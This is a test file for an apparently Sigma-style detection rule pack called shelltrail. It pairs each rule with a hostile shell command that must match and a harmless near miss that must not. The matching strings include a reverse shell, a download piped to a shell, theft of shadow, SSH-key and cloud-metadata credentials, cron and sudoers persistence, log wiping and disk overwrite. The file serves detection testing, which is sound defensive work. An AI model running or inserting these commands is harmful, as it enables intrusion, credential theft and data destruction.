/**
 * One command that must match and one near miss that must not, per built-in rule. These lines are
 * written by hand and kept apart from the corpus the quality bench measures (bench/detect-corpus/).
 */
import { readdirSync } from 'node:fs';
import { basename } from 'node:path';
import { describe, expect, it } from 'vitest';
import { builtinDir, compileRuleSet, evaluate, loadRules } from '../../src/detect/sigma/index.ts';

const cases: Record<string, [hit: string, nearMiss: string]> = {
  st_download_pipe_to_interpreter: [
    'wget -O - https://203.0.113.7/boot | dash',
    'wget -O - https://example.org/notes.txt | less',
  ],
  st_download_then_execute: [
    'curl -o ./agent https://x.test/a && chmod u+x ./agent && ./agent',
    'curl -o notes.txt https://x.test/n && wc -l notes.txt',
  ],
  st_decode_pipe_to_shell: [
    'printf %s aWQK | base64 --decode | zsh',
    'printf %s aWQK | base64 --decode | wc -c',
  ],
  st_computed_command_name: ['$(printf cm0K | base64 -d) -f /srv/app.db', 'ls $(printf /srv)'],
  st_reverse_shell: [
    'zsh -c "zmodload zsh/net/tcp; exec 3<>/dev/tcp/198.51.100.4/8081"',
    'nc -zv 198.51.100.4 8081',
  ],
  st_history_tampering: ['export HISTSIZE=0; whoami', 'export HISTTIMEFORMAT="%F %T "'],
  st_log_file_tampering: ['shred -n1 /var/log/secure-20261201', 'sudo tail -n 200 /var/log/secure'],
  st_logging_agent_stopped: [
    'sudo systemctl mask --now systemd-journald.socket',
    'sudo systemctl reload rsyslog',
  ],
  st_shadow_file_access: ["awk -F: '{print $2}' /etc/shadow", 'stat -c %a /etc/shadow'],
  st_cloud_credentials_access: [
    'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'curl -s http://169.254.169.254/latest/meta-data/hostname',
  ],
  st_ssh_private_key_access: ['xxd ~/.ssh/id_ecdsa', 'ssh-keygen -y -f ~/.ssh/id_ecdsa'],
  st_user_account_created: ['adduser mallory', 'sudo useradd -r -s /sbin/nologin exporter'],
  st_privilege_granted: [
    'printf "eve ALL=(ALL) NOPASSWD: ALL\\n" | sudo tee /etc/sudoers.d/eve',
    'sudo grep -c eve /etc/group',
  ],
  st_cron_persistence: ['echo "0 3 * * * /var/tmp/.u" | crontab -', 'crontab -l | grep backup'],
  st_ssh_authorized_keys_write: [
    'wget -qO- https://x.test/k.pub >> /home/admin/.ssh/authorized_keys',
    'wc -l ~/.ssh/authorized_keys',
  ],
  st_systemd_or_startup_persistence: [
    'cp /dev/shm/svc.service /etc/systemd/system/svc.service',
    'systemctl cat nginx.service',
  ],
  st_firewall_disabled: ['sudo ip6tables --flush', 'sudo ip6tables -L -n'],
  st_destructive_delete: ['sudo rm -r --force /var/lib/redis', 'rm -r --force ./var/lib/redis-copy'],
  st_disk_overwrite_redirect: ['head -c 1G /dev/zero > /dev/vdb', 'head -c 1G /dev/zero > /tmp/zeros'],
  st_container_escape: [
    'docker run --rm -it --volume=/:/hostfs busybox sh',
    'docker run --rm -it --volume=/srv/data:/data busybox sh',
  ],
  st_package_from_url: [
    'sudo zypper install -y http://198.51.100.9/tools.rpm',
    'sudo zypper install -y tmux',
  ],
  st_downloaded_package_installed: [
    'wget https://x.test/tool.deb; sudo dpkg -i tool.deb',
    'wget https://x.test/tool.tar.gz; tar xzf tool.tar.gz',
  ],
};

const { rules, report } = loadRules({ builtin: true, dirs: [] });
const set = compileRuleSet(rules);

describe('built-in rule pack', () => {
  it('loads every file, each with id, author, level, ATT&CK tags and false-positive notes', () => {
    const files = readdirSync(builtinDir).filter((f) => f.endsWith('.yml'));
    expect(report).toMatchObject({ loaded: files.length, skipped: [], notApplicable: [] });
    expect(Object.keys(cases).sort()).toEqual(files.map((f) => basename(f, '.yml')).sort());
    for (const rule of rules) {
      expect(rule.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/);
      expect(rule.author).toBe('shelltrail');
      expect(rule.tags.some((t) => /^attack\.t\d{4}/.test(t))).toBe(true);
      expect(rule.falsepositives?.length).toBeGreaterThan(0);
      expect(['low', 'medium', 'high', 'critical']).toContain(rule.level);
    }
  });

  for (const [file, [hit, nearMiss]] of Object.entries(cases)) {
    it(`${file}: matches "${hit}" but not "${nearMiss}"`, () => {
      const rule = rules.find((r) => basename(r.source, '.yml') === file);
      expect(rule).toBeDefined();
      expect(evaluate(set, { text: hit }).map((r) => r.id)).toContain(rule!.id);
      expect(evaluate(set, { text: nearMiss }).map((r) => r.id)).not.toContain(rule!.id);
    });
  }
});
